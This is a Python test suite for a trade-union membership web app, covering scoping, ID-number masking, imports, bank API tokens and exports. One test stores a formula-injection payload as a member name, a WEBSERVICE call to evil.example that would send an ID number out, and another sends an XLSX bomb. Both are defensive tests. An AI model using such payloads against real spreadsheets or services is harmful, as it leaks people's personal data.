"""The roll through pages and API: scoping, masking, status changes, imports, tokens."""

from __future__ import annotations

import io
import time
from datetime import date, timedelta

from fastapi import FastAPI
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from pydantic import SecretStr
from sqlalchemy import Engine, func, select
from sqlalchemy.orm import Session

from gonghui.core.clock import FixedClock
from gonghui.core.settings import Settings
from gonghui.jobs.models import WorkerBeat
from gonghui.jobs.runner import wall_clock
from gonghui.members import accounts
from gonghui.members.models import ApiToken, Bank, Card, Member, MembershipChange
from gonghui.web.app import create_app
from tests.conftest import NOW
from tests.core.test_tabular import xlsx_bomb
from tests.world import SECURITY_SETUP, World, csrf_of, login, make_id, post_form


def masked(id_number: str) -> str:
    return id_number[:6] + "********" + id_number[-4:]


def test_an_officer_sees_their_unit_only(client: TestClient, world: World) -> None:
    login(client, "unit_officer")
    listing = client.get("/api/v1/members").json()
    assert {item["unit_id"] for item in listing["items"]} == {world.unit_a}
    assert client.get(f"/members/{world.member_b}").status_code == 404
    assert client.get(f"/api/v1/members/{world.member_b}").json()["error"]["code"] == "not_found"
    assert client.get(f"/units/{world.unit_b}").status_code == 404


def test_the_staff_home_counts_every_member_of_the_roll(client: TestClient, db: Session) -> None:
    """Issue 13.9: the staff home showed `1 会员` beside `10,001 在会会员`."""
    login(client, "federation_staff")
    members = db.scalar(select(func.count()).select_from(Member))
    assert members == 2  # the test world's two: a count of 1 would be the bug
    home = client.get("/home").text
    assert f'<div class="n">{members}</div><div class="l">会员</div>' in home


def test_full_id_numbers_only_for_roles_that_keep_the_roll(
    client: TestClient, world: World
) -> None:
    login(client, "federation_staff")
    page = client.get(f"/members/{world.member_a}").text
    assert world.member_a_id_number in page
    listing = client.get("/members").text
    assert world.member_a_id_number not in listing, "lists show masked numbers even to staff"
    client.cookies.clear()
    login(client, "member")
    mine = client.get("/api/v1/members/me").json()
    assert mine["id_number"] == masked(world.member_a_id_number)


def test_staff_find_a_member_by_full_id_number(client: TestClient, world: World) -> None:
    login(client, "federation_staff")
    found = client.get("/api/v1/members", params={"q": world.member_b_id_number.lower()}).json()
    assert [item["id"] for item in found["items"]] == [world.member_b]
    by_name = client.get("/api/v1/members", params={"q": "林建"}).json()
    assert [item["id"] for item in by_name["items"]] == [world.member_a]


def test_a_status_change_is_kept_in_the_history(
    client: TestClient, db: Session, world: World
) -> None:
    login(client, "unit_officer")
    response = post_form(
        client, f"/members/{world.member_a}/status", {"status": "suspended", "reason": "长期病假"}
    )
    assert response.status_code == 303
    page = client.get(f"/members/{world.member_a}").text
    assert "在会 → 暂停" in page
    assert "长期病假" in page
    history = db.scalars(
        select(MembershipChange)
        .where(MembershipChange.member_id == world.member_a)
        .order_by(MembershipChange.id)
    ).all()
    assert [(c.from_status, c.to_status.value) for c in history][-1][1] == "suspended"


def test_a_forbidden_transition_is_explained(client: TestClient, world: World) -> None:
    login(client, "federation_staff")
    csrf = csrf_of(client, "/home")
    headers = {"X-CSRF-Token": csrf}
    body = {"status": "withdrawn", "reason": "本人申请"}
    assert (
        client.post(
            f"/api/v1/members/{world.member_b}/status", json=body, headers=headers
        ).status_code
        == 200
    )
    again = client.post(
        f"/api/v1/members/{world.member_b}/status",
        json={"status": "active", "reason": "x"},
        headers=headers,
    )
    assert again.status_code == 422
    assert again.json()["error"]["message"] == "会籍状态不能从“已退会”变为“在会”"


def test_an_api_change_with_a_cookie_needs_the_csrf_header(
    client: TestClient, world: World
) -> None:
    login(client, "federation_staff")
    response = client.post(
        f"/api/v1/members/{world.member_a}/status", json={"status": "suspended", "reason": "x"}
    )
    assert response.status_code == 403


def test_a_bank_token_sees_its_own_cards_and_stops_working_when_revoked(
    client: TestClient, db: Session, world: World
) -> None:
    bank = db.get(Bank, world.bank_ytb)
    assert bank is not None
    clear, token = accounts.issue_api_token(db, bank, "日终余额推送", actor=SECURITY_SETUP, now=NOW)
    db.commit()
    headers = {"Authorization": f"Bearer {clear}"}
    cards = client.get("/api/v1/members/cards", headers=headers).json()
    assert [card["card_no"] for card in cards["items"]] == [world.card_a]
    assert client.get("/api/v1/members", headers=headers).status_code == 403
    accounts.revoke_api_token(db, token.id, actor=SECURITY_SETUP, now=NOW)
    db.commit()
    refused = client.get("/api/v1/members/cards", headers=headers)
    assert refused.status_code == 401
    assert refused.json()["error"]["message"] == "API 令牌无效或已撤销"


def test_a_polling_token_records_its_use_only_every_few_minutes(
    app: FastAPI, client: TestClient, db: Session, world: World
) -> None:
    """Reads must not write: a bank polling /api/v1/me every second would otherwise make
    every poll a write (and, on SQLite, a lock other requests trip over)."""
    bank = db.get(Bank, world.bank_ytb)
    assert bank is not None
    clear, token = accounts.issue_api_token(db, bank, "轮询", actor=SECURITY_SETUP, now=NOW)
    db.commit()
    headers = {"Authorization": f"Bearer {clear}"}

    def last_used() -> object:
        db.expire_all()
        return db.get(ApiToken, token.id).last_used_at  # type: ignore[union-attr]

    assert client.get("/api/v1/me", headers=headers).status_code == 200
    assert last_used() == NOW
    app.state.clock = FixedClock(NOW + timedelta(minutes=4))
    assert client.get("/api/v1/me", headers=headers).status_code == 200
    assert last_used() == NOW, "not written again within five minutes"
    app.state.clock = FixedClock(NOW + timedelta(minutes=6))
    assert client.get("/api/v1/me", headers=headers).status_code == 200
    assert last_used() == NOW + timedelta(minutes=6)


def test_tokens_are_stored_only_as_hashes(client: TestClient, db: Session) -> None:
    login(client, "security_admin")
    page = post_form(client, "/admin/tokens", {"bank_id": "1", "name": "推送"})
    clear = page.text.split('data-testid="new-token">', 1)[1].split("<", 1)[0]
    assert clear.startswith("ghk_")
    stored = db.scalars(select(ApiToken.token_hash)).all()
    assert clear not in stored
    assert client.get("/admin/tokens").text.count(clear) == 0


def test_an_import_with_errors_on_the_page_lists_every_line_and_writes_nothing(
    client: TestClient, db: Session, world: World
) -> None:
    login(client, "federation_staff")
    before = db.scalar(select(func.count()).select_from(Member))
    content = (
        "姓名,身份证号,手机号,统一社会信用代码,岗位类型,在职状态\n"
        f"好人,{make_id(sequence='401')},13700000051,{world.unit_a_code},生产操作岗,在职\n"
        f"坏号,{make_id(sequence='402')[:-1]}Y,13700000052,{world.unit_a_code},生产操作岗,在职\n"
        f"坏手机,{make_id(sequence='403')},1370000,{world.unit_a_code},生产操作岗,在职\n"
    )
    response = client.post(
        "/imports",
        data={"csrf_token": csrf_of(client, "/imports")},
        files={"file": ("会员.csv", io.BytesIO(content.encode("gbk")), "text/csv")},
    )
    assert response.status_code == 422
    assert "第3行：身份证号应为18位" in response.text
    assert "第4行：手机号应为11位中国大陆手机号码" in response.text
    assert db.scalar(select(func.count()).select_from(Member)) == before


def test_the_outside_tests_xlsx_bomb_is_refused_in_seconds_with_a_short_answer(
    client: TestClient,
) -> None:
    login(client, "federation_staff")
    bomb = xlsx_bomb(500_000)
    started = time.perf_counter()
    response = client.post(
        "/api/v1/members/imports",
        headers={"X-CSRF-Token": csrf_of(client, "/home")},
        files={"file": ("bomb.xlsx", io.BytesIO(bomb), "application/octet-stream")},
    )
    assert time.perf_counter() - started < 5
    assert response.status_code == 422
    assert len(response.content) < 2_000
    assert "XLSX 文件过大" in response.text


def test_a_file_bad_on_every_line_gets_an_answer_of_bounded_size(client: TestClient) -> None:
    login(client, "federation_staff")
    lines = "".join(f"某人,37060219800115{n:04d},1,1,生产操作岗,在职\n" for n in range(5_000))
    content = "姓名,身份证号,手机号,统一社会信用代码,岗位类型,在职状态\n" + lines
    response = client.post(
        "/api/v1/members/imports",
        headers={"X-CSRF-Token": csrf_of(client, "/home")},
        files={"file": ("m.csv", io.BytesIO(content.encode()), "text/csv")},
    )
    assert response.status_code == 422
    details = response.json()["error"]["details"]
    assert len(details) == 201
    assert details[-1].startswith("……以及另外 ")


def test_a_clean_import_through_the_api_reports_its_counts(
    client: TestClient, world: World
) -> None:
    login(client, "unit_officer")
    content = (
        "姓名,身份证号,手机号,统一社会信用代码,岗位类型,在职状态\n"
        f"新会员,{make_id(sequence='501')},13700000061,{world.unit_a_code},生产操作岗,在职\n"
    )
    response = client.post(
        "/api/v1/members/imports",
        headers={"X-CSRF-Token": csrf_of(client, "/home")},
        files={"file": ("m.csv", io.BytesIO(content.encode()), "text/csv")},
    )
    assert response.json()["created"] == 1


def test_the_officer_exports_their_own_unit_with_full_id_numbers(
    client: TestClient, world: World
) -> None:
    login(client, "unit_officer")
    response = client.get("/exports/members.xlsx")
    assert "filename*=UTF-8''" in response.headers["content-disposition"]
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    caption, header, *members = rows
    assert str(caption[0]).startswith("会员名册 · 测试单位工会干部 导出于 ")
    assert header[:2] == ("姓名", "身份证号")
    assert [row[1] for row in members] == [world.member_a_id_number]


def test_a_member_named_like_a_formula_exports_as_text(
    client: TestClient, db: Session, world: World
) -> None:
    """The outside test's member, exported next to the full ID number it would have sent."""
    evil = '=WEBSERVICE("http://evil.example/?"&B2)'
    member = db.get(Member, world.member_a)
    assert member is not None
    member.name = evil
    db.commit()
    login(client, "unit_officer")
    sheet = load_workbook(io.BytesIO(client.get("/exports/members.xlsx").content)).active
    assert sheet["A3"].value == evil  # under the title row and the header
    assert sheet["A3"].data_type == "s"


def test_the_openapi_schema_lists_the_api(client: TestClient) -> None:
    schema = client.get("/api/v1/openapi.json").json()
    assert "/api/v1/members" in schema["paths"]
    assert not any(path.startswith("/members") for path in schema["paths"])


def test_the_health_endpoint_checks_the_database(client: TestClient) -> None:
    assert client.get("/health").json() == {"status": "ok", "database": "ok"}


def test_pages_forbid_every_other_origin(client: TestClient) -> None:
    headers = client.get("/login").headers
    assert "default-src 'self'" in headers["content-security-policy"]
    assert headers["x-frame-options"] == "DENY"


def test_a_bank_freezes_and_closes_its_own_card_and_the_dates_follow(
    client: TestClient, db: Session, world: World
) -> None:
    login(client, "bank_operator")
    card = db.scalars(select(Card).where(Card.card_no == world.card_a)).one()
    assert post_form(client, f"/cards/{card.id}/status", {"status": "frozen"}).status_code == 303
    assert post_form(client, f"/cards/{card.id}/status", {"status": "closed"}).status_code == 303
    db.refresh(card)
    assert (card.status.value, card.closed_on) == ("closed", date(2025, 2, 10))
    reopened = post_form(client, f"/cards/{card.id}/status", {"status": "active"})
    assert reopened.status_code == 422
    assert "不能从“已销户”变为“正常”" in reopened.text
    other = db.scalars(select(Card.id).where(Card.card_no == world.card_b)).one()
    assert post_form(client, f"/cards/{other}/status", {"status": "frozen"}).status_code == 404


def test_ready_says_what_is_missing_until_a_worker_beats(client: TestClient, db: Session) -> None:
    waiting = client.get("/ready")
    assert waiting.status_code == 503
    assert waiting.json() | {"worker": "?"} == {
        "status": "not ready",
        "database": "ok",
        "migrations": "ok",
        "storage": "ok",
        "worker": "?",
    }
    assert "gonghui worker" in waiting.json()["worker"]
    db.add(WorkerBeat(worker="w:1", started_at=wall_clock(), beat_at=wall_clock()))
    db.commit()
    assert client.get("/ready").json()["status"] == "ready"


def test_metrics_answer_the_machine_itself_and_nobody_else(app: FastAPI) -> None:
    with TestClient(app, client=("203.0.113.9", 40000)) as outsider:
        outsider.get("/login")
        assert outsider.get("/metrics").status_code == 404
    with TestClient(app, client=("127.0.0.1", 40000)) as local:
        local.get("/login")
        scraped = local.get("/metrics")
    assert scraped.status_code == 200
    assert 'gonghui_request_seconds_count{method="GET",route="/login",status="200"}' in scraped.text


def test_a_metrics_token_in_other_characters_is_refused_not_a_server_error(
    settings: Settings, engine: Engine
) -> None:
    # `hmac.compare_digest` raises TypeError on non-ASCII text, which a header may carry.
    token = settings.model_copy(update={"metrics_token": SecretStr("scrape-token")})
    with TestClient(create_app(token, engine=engine), client=("203.0.113.9", 40000)) as outsider:
        wrong = outsider.get("/metrics", headers={"Authorization": "Bearer 令牌".encode()})
        right = outsider.get("/metrics", headers={"Authorization": "Bearer scrape-token"})
    assert (wrong.status_code, right.status_code) == (404, 200)
